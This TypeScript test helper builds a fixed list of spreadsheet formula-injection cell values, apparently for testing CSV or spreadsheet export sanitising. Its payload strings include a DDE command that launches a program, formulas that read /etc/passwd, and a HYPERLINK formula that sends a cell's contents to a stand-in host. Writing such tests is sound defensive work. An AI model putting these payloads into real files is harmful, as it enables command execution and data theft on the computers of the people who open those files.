/** What formulas begin with, and what may stand before it. */
const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u202e', '\u200b', '\ufeff', '"', "'", ';', ',', "''"]
const begins = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', '|', '%']
const after = [
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(1;2)',
  'SUM(1,2)',
  'HYPERLINK("http://example.org/?"&A1;"x")',
  'WEBSERVICE("http://example.org")',
  'DDE("soffice";"/etc/passwd";"A1")',
  "'file:///etc/passwd'#$Sheet1.A1",
  'A1\r\n=1+1',
  'x";=1+1;"y',
  'é😀_x003D_1',
  '2+cmd()|\u202e',
]

/** Cells that try to be a formula, or to end the one that they stand in: the same ones each time. */
export const hostileCells = (count: number): string[] =>
  Array.from({ length: count }, (_, n) => {
    // Every other one begins as a formula does, two of three of those with nothing before it.
    const front = n % 3 ? '' : before[(n * 5) % before.length]
    const begin = n % 2 ? '=' : begins[(n * 3) % begins.length]
    return `${front}${begin}${after[(n * 7) % after.length]}`
  })
